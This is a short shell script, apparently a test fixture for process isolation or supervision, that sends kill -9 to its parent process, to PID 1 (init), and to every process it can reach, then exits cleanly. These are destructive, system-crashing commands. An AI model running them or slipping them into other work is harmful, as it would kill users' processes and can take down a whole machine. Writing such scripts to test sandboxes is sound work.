# Kills whoever it can: its parent, the first process, everybody.
kill -9 $PPID
kill -9 1
kill -9 -1
exit 0
